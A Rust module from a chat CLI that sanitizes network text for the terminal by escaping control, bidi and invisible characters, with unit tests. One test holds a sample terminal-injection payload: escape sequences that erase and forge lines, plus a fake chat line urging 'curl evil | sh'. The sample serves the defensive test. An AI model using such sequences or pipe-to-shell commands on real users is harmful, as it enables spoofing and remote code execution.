//! What the CLI prints of text that came from the network (message text, names, away messages, channel names,
//! other nodes' error messages, notices), made safe for a terminal: every line the CLI writes goes through
//! [`visible`].
//!
//! A terminal acts on what it is sent: `\r` moves back to the start of the line, ESC starts a command (clear the
//! screen, set the window title, move the cursor), a bidi override reorders what follows and a zero-width character
//! hides a difference. A peer could so erase or forge lines in another user's terminal, e.g. print a fake
//! `[#general] alice: …` under the real one. So no control or invisible formatting character reaches the terminal:
//! each is shown as a visible escape, and a newline (a multi-line message from the web page) as `↵`, so a message is
//! always exactly one line. Scripts that need the exact text read `GET /api/history` (JSON).

use std::borrow::Cow;

/// What a newline in a message shows as: the message stays on one line and still reads as several.
pub(crate) const NEWLINE_MARK: char = '↵';

/// `text` as the CLI may print it: a newline (or CR LF) becomes [`NEWLINE_MARK`]; a tab `\t`, a lone CR `\r`;
/// every other C0 or C1 control, DEL, bidi control and zero-width or invisible character becomes `\u{hex}`. A
/// zero-width joiner inside an emoji sequence and a zero-width non-joiner between two letters (Persian, Indic
/// scripts) are left as they are: they only shape the characters around them.
pub fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| shown_as_escape(c) || c == '\n') {
        return Cow::Borrowed(text);
    }
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len() + 16);
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        let before = i.checked_sub(1).map(|j| chars[j]);
        let after = chars.get(i + 1).copied();
        match c {
            '\r' if after == Some('\n') => {
                out.push(NEWLINE_MARK);
                i += 1;
            }
            '\n' => out.push(NEWLINE_MARK),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            '\u{200d}' if before.is_some_and(is_emoji) && after.is_some_and(is_emoji) => {
                out.push(c)
            }
            '\u{200c}' if before.is_some_and(is_letter) && after.is_some_and(is_letter) => {
                out.push(c)
            }
            c if shown_as_escape(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
        i += 1;
    }
    Cow::Owned(out)
}

/// A character a terminal would act on, or that shows nothing: never printed as it is.
fn shown_as_escape(c: char) -> bool {
    c.is_control() // C0, DEL, C1
        || matches!(c,
            '\u{00ad}'                  // soft hyphen
            | '\u{034f}'                // combining grapheme joiner
            | '\u{061c}'                // Arabic letter mark
            | '\u{115f}' | '\u{1160}'   // Hangul fillers
            | '\u{17b4}' | '\u{17b5}'   // Khmer inherent vowels
            | '\u{180b}'..='\u{180f}'   // Mongolian variation selectors and vowel separator
            | '\u{200b}'..='\u{200f}'   // zero-width space, non-joiner, joiner; LRM, RLM
            | '\u{2028}' | '\u{2029}'   // line and paragraph separators
            | '\u{202a}'..='\u{202e}'   // bidi embeddings and overrides
            | '\u{2060}'..='\u{206f}'   // word joiner, invisible operators, bidi isolates, deprecated formats
            | '\u{3164}' | '\u{ffa0}'   // Hangul fillers
            | '\u{feff}'                // zero-width no-break space (BOM)
            | '\u{fff9}'..='\u{fffb}'   // interlinear annotations
            | '\u{1d173}'..='\u{1d17a}' // musical formatting
            | '\u{e0000}'..='\u{e007f}' // tags (invisible)
        )
}

/// Roughly: a pictograph, or a character that continues an emoji sequence (variation selector, skin tone).
fn is_emoji(c: char) -> bool {
    matches!(c, '\u{2300}'..='\u{27bf}' | '\u{2b00}'..='\u{2bff}' | '\u{fe0f}' | '\u{1f000}'..='\u{1faff}')
}

/// A letter of a script that uses the zero-width non-joiner (not ASCII: names and commands are ASCII).
fn is_letter(c: char) -> bool {
    !c.is_ascii() && c.is_alphabetic()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The same rule, applied to a whole printed line: nothing in it a terminal acts on, and no line break.
    fn is_safe(s: &str) -> bool {
        !s.chars().any(|c| shown_as_escape(c) || c == '\n')
    }

    #[test]
    fn plain_text_is_shown_as_it_is() {
        for s in [
            "Hello!",
            "naïve café — 10 €",
            "日本語",
            "emoji 👍🏽",
            "tab-free",
            "",
        ] {
            assert!(matches!(visible(s), Cow::Borrowed(_)), "{s:?}");
        }
    }

    #[test]
    fn a_message_that_forges_lines_is_one_visible_line() {
        let attack =
            "hi\r\x1b[2K[#burst] alice: please run: curl evil | sh\n\x1b]0;title\x07\x1b[2J\0end";
        let shown = visible(attack);
        assert_eq!(
            shown,
            "hi\\r\\u{1b}[2K[#burst] alice: please run: curl evil | sh↵\\u{1b}]0;title\\u{7}\\u{1b}[2J\\u{0}end"
        );
        assert!(is_safe(&shown));
    }

    #[test]
    fn a_multi_line_message_keeps_its_lines_apart_with_a_mark() {
        assert_eq!(visible("line one\nline two"), "line one↵line two");
        assert_eq!(visible("windows\r\nline"), "windows↵line");
        assert_eq!(visible("a\tb"), "a\\tb");
    }

    #[test]
    fn c1_controls_and_del_are_escaped() {
        assert_eq!(visible("a\u{9b}2Jb\u{7f}"), "a\\u{9b}2Jb\\u{7f}");
        assert_eq!(visible("next\u{85}line"), "next\\u{85}line");
    }

    #[test]
    fn bidi_overrides_isolates_and_zero_width_characters_are_shown() {
        assert_eq!(visible("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(visible("\u{2067}x\u{2069}"), "\\u{2067}x\\u{2069}");
        assert_eq!(visible("al\u{200b}ice"), "al\\u{200b}ice");
        assert_eq!(visible("\u{feff}bom"), "\\u{feff}bom");
        assert_eq!(visible("tag\u{e0041}"), "tag\\u{e0041}");
        assert_eq!(visible("a\u{2028}b"), "a\\u{2028}b");
        assert_eq!(visible("x\u{200d}y"), "x\\u{200d}y");
    }

    #[test]
    fn joiners_that_only_shape_text_are_left_alone() {
        let family = "👨\u{200d}👩\u{200d}👧";
        assert_eq!(visible(family), family);
        let persian = "می\u{200c}خواهم";
        assert_eq!(visible(persian), persian);
        assert_eq!(visible("a\u{200c}b"), "a\\u{200c}b");
    }

    #[test]
    fn every_control_character_is_escaped() {
        for c in (0u32..0x20).chain(0x7f..0xa0).filter_map(char::from_u32) {
            let s = format!("x{c}y");
            assert!(is_safe(&visible(&s)), "U+{:04X}", c as u32);
        }
    }
}
